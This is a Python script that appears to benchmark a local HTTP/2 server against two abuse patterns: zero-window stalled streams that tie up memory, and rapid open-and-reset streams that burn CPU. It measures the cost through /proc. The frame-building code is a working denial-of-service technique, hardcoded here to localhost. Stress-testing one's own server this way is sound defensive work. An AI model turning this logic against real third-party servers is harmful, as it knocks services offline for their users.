#!/usr/bin/env python3
"""Clients of HTTP/2 that cost a server, and others, more than they should.

    h2_abuse.py stall --port 8080 --path /large --pid 4242 [--connections 20] [--streams 100]
        opens connections whose windows are shut, each stream of which asks for a large body: how
        much the resident memory of the server's processes has grown
    h2_abuse.py reset --port 8080 --path /large --pid 4242 [--streams 100000]
        opens that many streams and resets each at once, on as many connections as the server makes
        necessary: how much time of the CPU its processes have used

bench.py does the same in its rows h2-stall and h2-reset.
"""
import argparse
import os
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 1, 3, 4, 6, 7
AT_ONCE = 100  # streams that are opened and reset in one breath
TIMEOUT = 30


class Ended(Exception):
    """The server has ended the connection."""


def frame(kind, flags, stream, payload=b""):
    length = struct.pack(">I", len(payload))[1:]
    return length + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def head(path):
    """GET, http, the path and an authority: RFC 7541 6.1 and 6.2.2."""
    return b"\x82\x86\x04" + bytes([len(path)]) + path.encode() + b"\x01\x01h"


class Client:
    def __init__(self, port, *settings):
        """settings: (identifier, value)..."""
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=TIMEOUT)
        self.unread = b""
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *s)
                                                                     for s in settings)))

    def take(self, n):
        while len(self.unread) < n:
            piece = self.socket.recv(65536)
            if not piece:
                raise Ended()
            self.unread += piece
        taken, self.unread = self.unread[:n], self.unread[n:]
        return taken

    def next(self):
        """The next frame: its type, flags and payload."""
        start = self.take(9)
        payload = self.take(int.from_bytes(start[:3], "big"))
        if start[3] == SETTINGS and not start[4] & 1:
            self.socket.sendall(frame(SETTINGS, 1, 0))
        return start[3], start[4], payload

    def close(self):
        self.socket.close()


def stall(port, path, streams):
    """A client of that many streams, all of which have been answered and take nothing."""
    client, answered = Client(port, (4, 0)), 0
    client.socket.sendall(b"".join(frame(HEADERS, 5, 2 * i + 1, head(path)) for i in range(streams)))
    while answered < streams:
        kind, _, payload = client.next()
        answered += kind == HEADERS
        if kind in (RST_STREAM, GOAWAY):
            raise Ended(f"frame {kind}, {payload!r}")
    return client


def reset_on_one(port, path, most):
    """How many streams were sent on a connection before its server ended it, at most so many."""
    sent, client = 0, Client(port)
    try:
        while sent < most:
            n = min(AT_ONCE, most - sent)
            ids = range(2 * sent + 1, 2 * (sent + n), 2)
            sent += n
            client.socket.sendall(b"".join(frame(HEADERS, 5, i, head(path)) +
                                           frame(RST_STREAM, 0, i, struct.pack(">I", 8))
                                           for i in ids) + frame(PING, 0, 0, b"are you?"))
            while client.next()[:2] != (PING, 1):
                pass
    except (Ended, ConnectionError):
        pass
    client.close()
    return sent


def reset(port, path, streams):
    """Opens and resets them; how many connections it took."""
    connections, sent = 0, 0
    while sent < streams:
        sent += reset_on_one(port, path, streams - sent)
        connections += 1
    return connections


# ---- alone ----------------------------------------------------------------------------------------

def family(pid):
    with open(f"/proc/{pid}/task/{pid}/children") as f:
        return [pid] + [p for child in f.read().split() for p in family(int(child))]


def resident(pid):
    """KiB of the process and its descendants."""
    total = 0
    for p in family(pid):
        with open(f"/proc/{p}/status") as f:
            total += next(int(l.split()[1]) for l in f if l.startswith("VmRSS:"))
    return total


def cpu_ms(pid):
    ns = 0
    for p in family(pid):
        with open(f"/proc/{p}/schedstat") as f:
            ns += int(f.read().split()[0])
    return ns / 1e6


def tell_stall(a):
    stall(a.port, a.path, 1).close()
    before = resident(a.pid)
    held = [stall(a.port, a.path, a.streams) for _ in range(a.connections)]
    time.sleep(1)
    grown = resident(a.pid) - before
    print(f"{len(held)} connections of {a.streams} streams: {grown / 1024:.1f} MiB more, "
          f"{grown / len(held) / a.streams:.1f} KiB a stream")


def tell_reset(a):
    before = cpu_ms(a.pid)
    connections = reset(a.port, a.path, a.streams)
    used = cpu_ms(a.pid) - before
    print(f"{a.streams} streams on {connections} connections: {used:.1f} ms, "
          f"{used * 1000 / a.streams:.2f} us a stream")


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("what", choices=["stall", "reset"])
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--path", default="/")
    p.add_argument("--pid", type=int, default=os.getpid())
    p.add_argument("--connections", type=int, default=20)
    p.add_argument("--streams", type=int)
    a = p.parse_args()
    a.streams = a.streams or (100 if a.what == "stall" else 100000)
    tell_stall(a) if a.what == "stall" else tell_reset(a)


if __name__ == "__main__":
    main()
